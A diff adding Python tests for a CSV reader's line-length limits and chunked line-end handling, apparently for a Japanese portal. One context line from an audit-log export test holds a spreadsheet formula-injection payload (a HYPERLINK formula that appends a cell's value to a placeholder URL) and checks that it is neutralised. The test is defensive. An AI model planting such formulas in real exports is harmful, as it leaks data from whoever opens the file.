@@ -384,3 +384,54 @@ def test_audit_log_export_never_holds_a_live_formula(client_as):
         cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
         assert '\'=HYPERLINK("http://x"&A1,"click")' in cells
         assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
+
+
+def test_a_line_over_the_maximum_is_refused_at_that_line():
+    from portal.csvio import MAX_LINE_CHARS
+
+    # One line of 32 MB, no line end: refused as soon as the maximum is passed.
+    class Endless(io.RawIOBase):
+        read_bytes = 0
+
+        def readable(self):
+            return True
+
+        def readinto(self, buffer):
+            self.read_bytes += len(buffer)
+            if self.read_bytes > 32 * 1024 * 1024:
+                return 0
+            buffer[:] = b"a" * len(buffer)
+            return len(buffer)
+
+    source = Endless()
+    with pytest.raises(ImportRejected) as rejected:
+        read_csv(io.BufferedReader(source, CHUNK_BYTES), columns=COLUMNS)
+    assert rejected.value.errors[0].line == 1
+    assert "1行が長すぎます" in rejected.value.errors[0].reason
+    assert source.read_bytes < MAX_LINE_CHARS + 4 * CHUNK_BYTES
+
+    long_row = (
+        HEADER + "1,山田,001\r\n" + "2," + "あ" * (MAX_LINE_CHARS + 1) + ",002\r\n3,x,003\r\n"
+    )
+    reader = read_csv(long_row.encode("utf-8"), columns=COLUMNS)
+    assert [row.line for row in reader] == [2]
+    assert reader.errors[0].line == 3 and "1行が長すぎます" in reader.errors[0].reason
+
+
+def test_a_large_file_of_ordinary_lines_and_a_line_just_under_the_maximum_still_read():
+    from portal.csvio import MAX_LINE_CHARS
+
+    name = "い" * (MAX_LINE_CHARS - 20)
+    rows = "".join(f"{n},氏名{n},{n:03d}\r\n" for n in range(200_000))
+    data = (HEADER + f"0,{name},000\r\n" + rows).encode("cp932")
+    assert len(data) > 4 * 1024 * 1024
+    reader = read_csv(io.BytesIO(data), columns=COLUMNS)
+    read = list(reader)
+    assert len(read) == 200_001 and reader.errors == []
+    assert read[0]["氏名"] == name and read[-1]["町丁目コード"] == "199999"
+
+
+def test_a_lone_cr_line_end_split_across_chunks_still_reads():
+    body = "1,a," + "x" * (CHUNK_BYTES - 8) + "\r2,b,c\r"
+    reader = read_csv((HEADER.replace("\r\n", "\r") + body).encode(), columns=COLUMNS)
+    assert [row.line for row in reader] == [2, 3]
